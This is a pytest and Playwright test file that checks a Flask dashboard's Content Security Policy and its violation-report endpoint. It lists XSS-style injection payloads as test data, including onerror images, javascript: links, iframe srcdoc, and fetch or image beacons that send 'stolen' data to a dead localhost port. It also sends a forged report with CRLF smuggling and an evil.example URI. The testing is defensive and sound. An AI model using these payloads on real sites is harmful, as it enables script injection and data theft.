"""T-CSP: every page draws under the real policy without one violation, and a script that is not ours does not run."""

from __future__ import annotations

import json
import logging
from collections.abc import Iterator
from pathlib import Path

import pytest
from flask.testing import FlaskClient
from playwright.sync_api import Browser, Page

from tests.support.asking import SAME_SITE
from tests.support.hostile import addresses, hostile_app
from tests.support.serving import served

PATIENCE_MS = 20_000
_LISTEN = """
  window.violations = [];
  document.addEventListener("securitypolicyviolation", event =>
    window.violations.push(event.effectiveDirective + " " + event.blockedURI + " " + event.sourceFile));
"""
# What an attacker who found a hole would put in: none of it may run.
_INJECTED = (
    "const s = document.createElement('script'); s.textContent = 'window.ran = 1'; document.body.append(s)",
    "document.body.insertAdjacentHTML('beforeend', `<img src='/none' onerror='window.ran = 1'>`)",
    "const a = document.createElement('a'); a.href = 'javascript:window.ran=1'; document.body.append(a); a.click()",
    "const s = document.createElement('script'); s.src = 'http://localhost:9/x.js'; document.body.append(s)",
    "const f = document.createElement('iframe'); f.srcdoc = '<script>parent.ran = 1</script>'; document.body.append(f)",
    "const l = document.createElement('link'); l.rel='stylesheet'; l.href='http://localhost:9/x.css'; document.head.append(l)",
    "new Image().src = 'http://localhost:9/stolen'",
    "fetch('http://localhost:9/stolen').catch(() => 0)",
    "const b = document.createElement('base'); b.href = 'http://localhost:9/'; document.head.append(b)",
)


@pytest.fixture(scope="module")
def url(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    with hostile_app(tmp_path_factory.mktemp("policy")) as app, served(app) as address:
        yield address


@pytest.fixture(scope="module")
def page(browser: Browser, url: str) -> Iterator[Page]:
    context = browser.new_context(base_url=url, viewport={"width": 1366, "height": 768})
    context.add_init_script(_LISTEN)
    page = context.new_page()
    page.goto("/sign-in")
    assert page.evaluate("window.violations") == []
    page.locator("button").first.click()
    page.wait_for_selector("#main > .arrived", timeout=PATIENCE_MS)
    yield page
    context.close()


def test_every_page_draws_without_a_violation(page: Page) -> None:
    charts = 0
    for address in addresses()[::2]:  # of each kind; tests/journeys looks at every page for complaints, too
        page.goto(address)
        page.wait_for_selector("#main > .arrived", timeout=PATIENCE_MS)
        page.wait_for_function(
            "() => [...document.querySelectorAll('.plot')].every(plot => plot.querySelector('.main-svg'))",
            timeout=PATIENCE_MS,
        )
        charts += page.locator(".main-svg").count()
        assert page.evaluate("window.violations") == [], address
    assert charts >= 5


@pytest.mark.parametrize("script", _INJECTED, ids=range(len(_INJECTED)))
def test_what_is_injected_does_not_run(page: Page, caplog: pytest.LogCaptureFixture, script: str) -> None:
    page.goto("/sources")
    page.wait_for_selector("#main > .arrived", timeout=PATIENCE_MS)
    with caplog.at_level(logging.WARNING, "cspdash.policy"), page.expect_response("**/csp-report") as told:
        page.evaluate(f"() => {{ {script} }}")
    assert page.evaluate("typeof window.ran") == "undefined"
    assert told.value.status == 204  # the browser told us, and we took it
    assert [record for record in caplog.records if record.name == "cspdash.policy"]


def test_nothing_is_evaluated(page: Page) -> None:
    page.goto("/sources")
    page.evaluate("""() => {
      setTimeout("window.ran = 1", 0);
      setTimeout(() => { try { new Function("window.ran = 1")() } catch (error) { window.refused = error.name } }, 10);
    }""")
    page.wait_for_function("() => window.refused === 'EvalError'", timeout=PATIENCE_MS)
    assert page.evaluate("typeof window.ran") == "undefined"


def test_a_report_is_one_short_line_without_addresses(
    clients: dict[str, FlaskClient], caplog: pytest.LogCaptureFixture
) -> None:
    told = {
        "effective-directive": "script-src\r\nforged " + "x" * 500,
        "blocked-uri": "https://evil.example/PC%20Shah?team=c",
        "document-uri": "https://here/officer/E5",
    }
    with caplog.at_level(logging.WARNING, "cspdash.policy"):
        answer = clients["sgt"].post(
            "/csp-report",
            data=json.dumps({"csp-report": told}),
            headers=SAME_SITE,
            content_type="application/csp-report",
        )
    assert answer.status_code == 204
    (record,) = caplog.records
    assert record.__dict__["blocked"] == "https://evil.example"
    assert len(record.__dict__["directive"]) <= 60
    assert "E5" not in str(record.__dict__)


NO_REPORTS = (
    b"",
    b"{}",
    b"[]",
    b'{"csp-report": 3}',
    b"[" * 9000,
    b"\xff\xfe",
    b'{"csp-report": {"blocked-uri": "http://["}}',
)


@pytest.mark.parametrize("body", NO_REPORTS, ids=range(len(NO_REPORTS)))
def test_what_is_no_report_is_refused(clients: dict[str, FlaskClient], body: bytes) -> None:
    answer = clients["sgt"].post("/csp-report", data=body, headers=SAME_SITE)
    assert answer.status_code in (204, 400)
    assert clients["sgt"].post("/csp-report", data=b"x" * 20_000, headers=SAME_SITE).status_code == 413


def test_strangers_report_nothing(app: object, home: Path) -> None:
    answer = app.server.test_client().post("/csp-report", json={"csp-report": {}}, headers=SAME_SITE)  # type: ignore[attr-defined]
    assert answer.status_code == 401
